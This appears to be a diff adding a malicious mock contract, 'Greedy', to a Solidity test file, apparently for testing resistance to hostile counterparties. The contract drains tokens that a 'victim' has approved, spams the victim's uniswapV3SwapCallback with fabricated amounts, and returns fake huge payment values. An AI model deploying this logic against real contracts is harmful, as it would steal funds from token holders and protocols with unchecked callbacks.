@@ -57,3 +57,36 @@ contract Receiver {
         return done;
     }
 }
+
+/// Takes whatever it can get of some tokens, however it is called, and says that it has paid plenty.
+contract Greedy {
+    address private victim;
+    address[] private tokens;
+
+    constructor(address victim_, address[] memory tokens_) {
+        (victim, tokens) = (victim_, tokens_);
+    }
+
+    fallback(bytes calldata) external returns (bytes memory) {
+        for (uint256 i = 0; i < tokens.length; i++) {
+            uint256 held = _ask(tokens[i], abi.encodeWithSignature("balanceOf(address)", victim));
+            uint256 allowed = _ask(tokens[i], abi.encodeWithSignature("allowance(address,address)", victim, this));
+            uint256 taken = allowed < held ? allowed : held;
+            _try(tokens[i], abi.encodeWithSignature("transferFrom(address,address,uint256)", victim, this, taken));
+        }
+        for (uint256 part = 1 << 70; part > 1 << 20; part /= 2) {
+            _try(victim, abi.encodeWithSignature("uniswapV3SwapCallback(int256,int256,bytes)", part, -1, ""));
+        }
+        return abi.encode(-1e30, -1e30, 0);
+    }
+
+    function _ask(address token, bytes memory question) private view returns (uint256) {
+        (, bytes memory output) = token.staticcall(question);
+        return abi.decode(output, (uint256));
+    }
+
+    function _try(address target, bytes memory call) private {
+        (bool done, ) = target.call(call);
+        done;
+    }
+}
